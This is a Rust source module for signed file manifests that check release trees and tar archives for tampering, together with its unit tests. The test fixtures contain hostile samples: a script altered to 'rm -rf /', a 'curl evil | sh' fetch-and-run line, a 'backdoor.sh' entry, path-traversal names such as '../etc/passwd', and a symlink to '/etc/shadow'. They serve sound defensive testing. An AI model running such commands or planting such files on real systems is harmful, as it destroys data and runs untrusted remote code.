//! Signed file manifests (issue 15; spec "The support bundle", "Script trust"; AG-32, AG-33,
//! AG-36): a list of files — each one's relative path, size, SHA-256 and mode — signed by a
//! release key, and the checks of a tree or an archive against it. The same manifest is the
//! support bundle's (inside the signed release metadata, and beside the unpacked tree) and a
//! site's `RELEASE_MANIFEST` with its `RELEASE_MANIFEST.sig`.
//!
//! A manifest on disk is [`MANIFEST_FILE`] (the JSON of [`FileManifest`]) and
//! [`SIGNATURE_FILE`] (`{"signatures": [{"keyid": ..., "sig": ...}]}`), each signature over
//! [`SIGNED_CONTEXT`] followed by the manifest file's exact bytes, so a signature is checked
//! over exactly what is then parsed. A manifest is *usable* when it is present, verifies against
//! a trusted key and parses within its bounds; otherwise nothing is known about any file
//! ([`ManifestError`]). A usable manifest judges files: [`FileManifest::compare`] names every
//! file that differs, is missing, or is not listed ([`Difference`]).
//!
//! This module does no I/O; [`crate::tree`] walks and lands real directories, and
//! [`read_archive`] reads a tar held in memory.
//!
//! The parts: [`files`] (the manifest, its bounds and its judgement of what was seen),
//! [`signed`] (its signature file) and [`archive`] (a tar against it); this module re-exports
//! them, so callers name `manifest::X`.

mod archive;
mod files;
mod signed;

pub use archive::{read_archive, write_archive, ArchiveError, ArchivedFile};
pub use files::{
    valid_mode, valid_path, Difference, FileEntry, FileManifest, ManifestError, Problem, Seen,
    MANIFEST_FILE, MAX_DEPTH, MAX_FILES, MAX_FILE_BYTES, MAX_MANIFEST_BYTES, MAX_SIGNATURE_BYTES,
    SIGNATURE_FILE, SIGNED_CONTEXT,
};
pub use signed::{signature_file, verify};

#[cfg(test)]
mod tests {
    use base64::{engine::general_purpose::STANDARD, Engine as _};

    use std::collections::BTreeMap;

    use super::*;
    use crate::NodeKey;

    fn key(seed: u8) -> NodeKey {
        NodeKey::from_secret_bytes(&[seed; 32]).unwrap()
    }

    const SCRIPT: &[u8] = b"#!/bin/sh\necho report\n";
    const LIST: &[u8] = b"192.0.2.0/24\n";

    fn files() -> Vec<(&'static str, u32, &'static [u8])> {
        vec![
            ("bin/host_report.sh", 0o755, SCRIPT),
            ("conf/ranges.txt", 0o644, LIST),
        ]
    }

    fn manifest() -> FileManifest {
        FileManifest::describe(files()).unwrap()
    }

    #[test]
    fn ag_33_a_manifest_verifies_only_against_a_trusted_key_and_any_edit_breaks_it() {
        let signer = key(1);
        let bytes = manifest().to_bytes();
        let signature = manifest().sign(&signer);
        let (read, by) = verify(
            &bytes,
            &signature,
            &[key(2).public_key(), signer.public_key()],
        )
        .unwrap();
        assert_eq!(read, manifest());
        assert_eq!(by, signer.public_key());
        assert!(matches!(
            verify(&bytes, &signature, &[key(2).public_key()]),
            Err(ManifestError::UntrustedSignature { .. })
        ));
        let edited = String::from_utf8(bytes.clone())
            .unwrap()
            .replace("0644", "0600");
        assert!(matches!(
            verify(edited.as_bytes(), &signature, &[signer.public_key()]),
            Err(ManifestError::UntrustedSignature { .. })
        ));
        // a release-metadata or artifact signature over the same bytes is not a manifest's
        let bare = STANDARD.encode(signer.sign(&bytes));
        let forged = format!(
            r#"{{"signatures":[{{"keyid":"{}","sig":"{bare}"}}]}}"#,
            signer.public_key().fingerprint()
        );
        assert!(verify(&bytes, forged.as_bytes(), &[signer.public_key()]).is_err());
        assert!(matches!(
            verify(&bytes, b"not json", &[signer.public_key()]),
            Err(ManifestError::Unreadable(_))
        ));
    }

    #[test]
    fn ag_33_the_same_files_give_the_same_manifest_bytes_and_it_reads_back() {
        let first = manifest().to_bytes();
        let mut reversed = files();
        reversed.reverse();
        assert_eq!(FileManifest::describe(reversed).unwrap().to_bytes(), first);
        assert_eq!(FileManifest::parse(&first).unwrap(), manifest());
        let text = String::from_utf8(first).unwrap();
        assert!(text.contains(r#""mode":"0755""#), "{text}");
    }

    #[test]
    fn ag_36_bad_paths_modes_and_shapes_are_refused_naming_the_file() {
        for (path, mode, why) in [
            ("../etc/passwd", 0o644, "relative"),
            ("/etc/passwd", 0o644, "relative"),
            ("a//b", 0o644, "relative"),
            ("RELEASE_MANIFEST", 0o644, "manifest itself"),
            ("bin/x.sh", 0o4755, "set-id"),
            ("bin/x.sh", 0o777, "writable"),
        ] {
            let error = FileManifest::describe([(path, mode, SCRIPT)]).unwrap_err();
            assert!(error.to_string().contains(why), "{path}: {error}");
        }
        let error =
            FileManifest::describe([("a", 0o644, SCRIPT), ("a/b", 0o644, SCRIPT)]).unwrap_err();
        assert!(
            error.to_string().contains("file and as a directory"),
            "{error}"
        );
        assert!(FileManifest::describe([]).is_err());
        assert!(
            FileManifest::parse(br#"{"files":{"a":{"size":1,"sha256":"x","mode":"0644"}}}"#)
                .unwrap_err()
                .to_string()
                .contains("sha256")
        );
        assert!(FileManifest::parse(
            br#"{"files":{"a":{"size":1,"sha256":"x","mode":"644"}},"extra":1}"#
        )
        .is_err());
    }

    #[test]
    fn ag_32_ag_33_compare_names_every_modified_missing_unlisted_and_odd_file() {
        let manifest = manifest();
        let mut seen = BTreeMap::new();
        seen.insert(
            "bin/host_report.sh".to_string(),
            Seen::of(b"#!/bin/sh\nrm -rf /\n", 0o755),
        );
        seen.insert("extra.sh".to_string(), Seen::of(b"x", 0o755));
        seen.insert("link".to_string(), Seen::Other);
        seen.insert(MANIFEST_FILE.to_string(), Seen::of(b"{}", 0o644));
        let differences = manifest.compare(&seen, true, &[MANIFEST_FILE, SIGNATURE_FILE]);
        let shown: Vec<String> = differences.iter().map(ToString::to_string).collect();
        assert_eq!(
            shown,
            [
                "bin/host_report.sh (modified)",
                "conf/ranges.txt (missing)",
                "extra.sh (not listed)",
                "link (not a regular file)",
            ]
        );
        // a site's tree holds files the release never had: only listed files are judged
        let differences = manifest.compare(&seen, false, &[]);
        assert_eq!(differences.len(), 2);
        // the same files, the same modes: nothing differs
        let mut good = BTreeMap::new();
        for (path, mode, bytes) in files() {
            good.insert(path.to_string(), Seen::of(bytes, mode));
        }
        assert!(manifest.compare(&good, true, &[]).is_empty());
        good.insert("conf/ranges.txt".into(), Seen::of(LIST, 0o600));
        assert_eq!(
            manifest.compare(&good, true, &[])[0].problem,
            Problem::WrongMode
        );
    }

    #[test]
    fn ag_33_one_script_is_checked_against_its_entry() {
        let manifest = manifest();
        assert_eq!(
            manifest.check_file("bin/host_report.sh", SCRIPT, 0o755),
            Ok(())
        );
        assert_eq!(
            manifest
                .check_file("bin/host_report.sh", b"#!/bin/sh\n", 0o755)
                .unwrap_err()
                .problem,
            Problem::Modified
        );
        assert_eq!(
            manifest
                .check_file("bin/other.sh", SCRIPT, 0o755)
                .unwrap_err()
                .problem,
            Problem::Unlisted
        );
    }

    #[test]
    fn ag_32_an_archive_is_read_back_against_its_manifest_and_the_same_files_give_the_same_bytes() {
        let manifest = manifest();
        let archive = write_archive(files());
        let mut reversed = files();
        reversed.reverse();
        assert_eq!(write_archive(reversed), archive, "deterministic");
        let read = read_archive(&archive, &manifest, &[]).unwrap();
        assert_eq!(read.len(), 2);
        assert_eq!(read[0].path, "bin/host_report.sh");
        assert_eq!(read[0].mode, 0o755);
        assert_eq!(read[0].bytes, SCRIPT);
    }

    #[test]
    fn ag_32_an_archive_with_a_changed_extra_or_missing_file_is_refused_naming_each() {
        let manifest = manifest();
        let tampered = write_archive([
            (
                "bin/host_report.sh",
                0o755,
                &b"#!/bin/sh\ncurl evil | sh\n"[..],
            ),
            ("bin/backdoor.sh", 0o755, &b"#!/bin/sh\n"[..]),
        ]);
        let error = read_archive(&tampered, &manifest, &[]).unwrap_err();
        assert_eq!(
            error.files(),
            ["bin/backdoor.sh", "bin/host_report.sh", "conf/ranges.txt"]
        );
        assert!(
            error.to_string().contains("bin/backdoor.sh (not listed)"),
            "{error}"
        );
        // the manifest's own files are allowed beside the listed ones when asked
        let signed = write_archive([
            ("bin/host_report.sh", 0o755, SCRIPT),
            ("conf/ranges.txt", 0o644, LIST),
            (MANIFEST_FILE, 0o644, &b"{}"[..]),
        ]);
        assert!(read_archive(&signed, &manifest, &[]).is_err());
        assert!(read_archive(&signed, &manifest, &[MANIFEST_FILE]).is_ok());
        // a link inside the archive is never a file
        let mut builder = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Symlink);
        header.set_size(0);
        builder
            .append_link(&mut header, "bin/host_report.sh", "/etc/shadow")
            .unwrap();
        let linked = builder.into_inner().unwrap();
        let error = read_archive(&linked, &manifest, &[]).unwrap_err();
        assert!(
            error
                .to_string()
                .contains("bin/host_report.sh (not a regular file)"),
            "{error}"
        );
        assert!(read_archive(b"not a tar at all, not even close", &manifest, &[]).is_err());
    }

    #[test]
    fn ag_36_an_archive_entry_outside_the_tree_is_refused() {
        let mut builder = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Regular);
        header.set_size(1);
        header.set_mode(0o644);
        // set_path refuses "..", so write the name bytes directly
        header.as_gnu_mut().unwrap().name[..9].copy_from_slice(b"../escape");
        header.set_cksum();
        builder.append(&header, &b"x"[..]).unwrap();
        let escaping = builder.into_inner().unwrap();
        let error = read_archive(&escaping, &manifest(), &[]).unwrap_err();
        assert!(
            error.to_string().contains("not a plain relative path"),
            "{error}"
        );
    }
}
